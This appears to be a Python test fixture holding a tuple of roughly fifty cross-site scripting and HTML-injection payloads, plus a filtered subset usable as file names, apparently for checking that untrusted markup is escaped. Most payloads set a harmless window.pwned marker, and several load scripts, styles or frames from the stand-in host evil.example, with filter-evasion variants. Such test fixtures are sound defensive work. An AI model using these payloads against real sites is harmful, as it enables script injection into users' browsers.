"""Markup that runs, or loads something, wherever it is put into a page unescaped.

Each sets ``window.pwned`` or asks for something of ``evil.example``.
"""

from __future__ import annotations

PAYLOADS: tuple[str, ...] = (
    "<script>window.pwned=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>window.pwned=1//",
    "<img src=x onerror=window.pwned=1>",
    "<img src=//evil.example/x.png>",
    "<img/src=`x`onerror=window.pwned=1>",
    '"><img src=x onerror=window.pwned=1>',
    "'><img src=x onerror=window.pwned=1>",
    "' onmouseover='window.pwned=1",
    '" autofocus onfocus="window.pwned=1',
    "<svg onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "<svg><image href=//evil.example/x.svg></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=window.pwned=1/>#x'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<iframe src=javascript:parent.pwned=1></iframe>",
    "<object data=//evil.example/x.swf></object>",
    "<embed src=//evil.example/x>",
    "<video src=//evil.example/x.mp4 autoplay onerror=window.pwned=1></video>",
    "<audio src onerror=window.pwned=1>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style='background:url(//evil.example/x.png)'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><input type=submit id=pwned></form>",
    "<details open ontoggle=window.pwned=1>",
    "<body onload=window.pwned=1>",
    "<input autofocus onfocus=window.pwned=1>",
    "<marquee onstart=window.pwned=1>",
    "<a href=javascript:window.pwned=1>here</a>",
    "<template><script>window.pwned=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "<!--><img src=x onerror=window.pwned=1>-->",
    "<![CDATA[<img src=x onerror=window.pwned=1>]]>",
    "]]><script>window.pwned=1</script>",
    "</title></textarea></style></script><img src=x onerror=window.pwned=1>",
    "[here](javascript:window.pwned=1) ![x](//evil.example/x.png)",
    "<http://evil.example/x.png> ![x][y]\n\n[y]: //evil.example/x.png",
    "&lt;img src=x onerror=window.pwned=1&gt; &#60;script&#62;window.pwned=1&#60;/script&#62;",
    "\\u003cimg src=x onerror=window.pwned=1\\u003e",
    "${window.pwned=1} #{window.pwned=1} {{window.pwned=1}} {%raw%} <%= window.pwned=1 %>",
    "{{constructor.constructor('window.pwned=1')()}} ${{value}} {value}",
    "$$\\href{javascript:window.pwned=1}{x}$$ \\(\\url{javascript:window.pwned=1}\\)",
    "```mermaid\ngraph TD; A[<img src=x onerror=window.pwned=1>]\n```",
    "data:text/html,<script>window.pwned=1</script>",
    '<button data-event="remove" data-source="whales.txt">x</button>',
    "<\x00script>window.pwned=1</script>",
    "\u202e<img src=x onerror=window.pwned=1>",
    "＜script＞window.pwned=1＜/script＞",
)

NAMES: tuple[str, ...] = tuple(
    payload for payload in PAYLOADS if not set(payload) & {"/", "\0", "\n"} and len(payload) < 100
)
"""Those that can be the name of a file."""
